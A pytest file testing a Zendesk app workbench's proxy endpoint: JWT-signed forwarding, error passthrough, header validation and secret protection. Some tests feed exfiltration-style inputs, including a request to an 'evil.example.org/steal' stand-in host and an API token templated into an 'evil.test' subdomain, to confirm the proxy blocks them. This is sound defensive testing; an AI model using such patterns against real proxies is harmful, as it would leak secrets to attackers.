"""`POST /workbench/proxy`: what host.js receives, and that it never carries a secure setting."""

from __future__ import annotations

import json

import jwt
import responses

from .conftest import BACKEND, INSTALLATION, SECRET

API_TOKEN = INSTALLATION["api_token"]
SIDEBAR_REQUEST = {
    "url": f"{BACKEND}/api/v1/search?q=trail",
    "type": "GET",
    "secure": True,
    "dataType": "json",
    "headers": {"Authorization": "Bearer {{jwt.token}}"},
    "jwt": {
        "algorithm": "HS256",
        "secret_key": "{{setting.shared_secret}}",
        "expiry": 3600,
        "claims": {"iss": "demo.zendesk.com", "aud": "photoshelter-for-zendesk", "sub": "9001"},
    },
}


def post(client, options):
    response = client.post("/proxy", json={"options": options})
    assert response.status_code == 200
    assert SECRET not in response.get_data(as_text=True)
    assert API_TOKEN not in response.get_data(as_text=True)
    return response.get_json()


def test_requires_a_json_body(wb):
    assert wb.post("/proxy", data="options=x", content_type="text/plain").status_code == 415
    assert wb.post("/proxy", json={"url": "x"}).status_code == 400
    assert wb.get("/proxy").status_code == 405


@responses.activate
def test_forwards_a_signed_sidebar_request(wb):
    responses.get(f"{BACKEND}/api/v1/search", json={"items": [], "page": 1}, status=200)
    envelope = post(wb, SIDEBAR_REQUEST)
    assert envelope == {
        "status": 200,
        "statusText": "OK",
        "headers": {"content-type": "application/json"},
        "body": json.dumps({"items": [], "page": 1}),
    }
    token = responses.calls[0].request.headers["Authorization"].removeprefix("Bearer ")
    claims = jwt.decode(token, SECRET, algorithms=["HS256"], audience="photoshelter-for-zendesk")
    assert claims["iss"] == "demo.zendesk.com" and claims["exp"] - claims["iat"] == 3600


@responses.activate
def test_passes_retry_after_and_error_bodies(wb):
    body = {"error": {"code": "rate_limited", "message": "slow down", "details": {}}}
    responses.get(f"{BACKEND}/api/v1/search", json=body, status=429, headers={"Retry-After": "12"})
    envelope = post(wb, SIDEBAR_REQUEST)
    assert envelope["status"] == 429
    assert envelope["headers"] == {"content-type": "application/json", "retry-after": "12"}
    assert json.loads(envelope["body"]) == body


def test_domain_outside_the_whitelist_is_a_403_envelope(wb):
    envelope = post(wb, {**SIDEBAR_REQUEST, "url": "https://evil.example.org/steal"})
    assert envelope["status"] == 403 and envelope["proxyError"] == "domain_not_whitelisted"
    assert json.loads(envelope["body"])["error"]["code"] == "domain_not_whitelisted"


def test_underscore_header_is_a_400_envelope(wb):
    envelope = post(wb, {**SIDEBAR_REQUEST, "headers": {"client_id": "x"}})
    assert envelope["status"] == 400 and envelope["proxyError"] == "invalid_header_name"


def test_secret_out_of_scope_is_refused_without_echoing_it(wb):
    options = {"url": f"{BACKEND}/x", "secure": True, "headers": {"X-Leak": "{{setting.shared_secret}}"}}
    envelope = post(wb, options)
    assert envelope["status"] == 403 and envelope["proxyError"] == "setting_out_of_scope"


def test_secure_values_never_appear_in_proxy_errors(wb):
    envelope = post(wb, {"url": "https://{{setting.api_token}}.evil.test/", "secure": True})
    assert envelope["status"] == 403 and "[secure setting]" in envelope["body"]


def test_zendesk_api_is_not_simulated_without_a_zendesk_api(seed_workbench):
    envelope = post(seed_workbench().test_client(), {"url": "/api/v2/tickets/101.json"})
    assert envelope["status"] == 501 and "not simulated" in envelope["body"]


def test_an_explicit_manifest_path_decides_the_whitelist(make_workbench, tmp_path):
    # With an explicit manifest_path, only that manifest counts (its whitelist, its secure params).
    manifest = tmp_path / "manifest.json"
    manifest.write_text(json.dumps({"domainWhitelist": ["api.elsewhere.example"]}))
    client = make_workbench(manifest_path=manifest).test_client()
    with responses.RequestsMock() as mocked:
        mocked.get("https://api.elsewhere.example/x", json={}, status=200)
        assert post(client, {"url": "https://api.elsewhere.example/x"})["status"] == 200
